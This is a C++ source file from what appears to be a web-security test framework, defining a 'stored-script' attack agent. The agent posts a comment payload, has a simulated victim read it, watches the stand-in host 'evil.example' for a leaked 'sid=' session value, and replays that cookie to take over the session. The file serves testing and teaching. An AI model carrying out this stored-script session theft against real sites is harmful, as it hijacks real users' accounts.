// The agent of the test core (wasm/CMakeLists.txt): a comment with a script in it that sends the
// session of whoever reads it. One payload and no adapting, for it is the engine that is tested:
// browser.test.ts plays it with a learner's app, parse5 and the page realms.
#include "core/attack/agent.h"

namespace parapet::attack {
namespace {

http::Request form(std::string target, std::string body) {
    return {.method = "POST",
            .target = std::move(target),
            .headers = {{"content-type", "application/x-www-form-urlencoded"}},
            .body = std::move(body)};
}

class StoredScript final : public Agent {
public:
    void run(Target& target) override {
        OwnHost* const evil = target.host("evil.example");
        if (evil == nullptr || target.victim() == nullptr) return;
        Account const& own = target.surface().attacker;
        target.send(form("/login", "username=" + own.username + "&password=" + own.password));
        target.send(form("/comments", "text=" + std::string(target.option("payload"))));
        target.victim()->does("signs in");
        target.victim()->does("reads the comments");
        for (http::Request const& got : evil->received()) {
            std::string const told = got.target + '\n' + got.body;
            std::size_t const at = told.find("sid=");
            if (at == std::string::npos) continue;
            target.note("evil.example was sent a session");
            target.forget_cookies();
            target.send({.target = "/", .headers = {{"cookie", told.substr(at, 36)}}});
        }
    }
};

std::unique_ptr<Agent> make_stored_script() { return std::make_unique<StoredScript>(); }
constexpr AgentKind kKinds[] = {{"stored-script", make_stored_script}};

}  // namespace

std::span<AgentKind const> agent_kinds() { return kKinds; }

}  // namespace parapet::attack
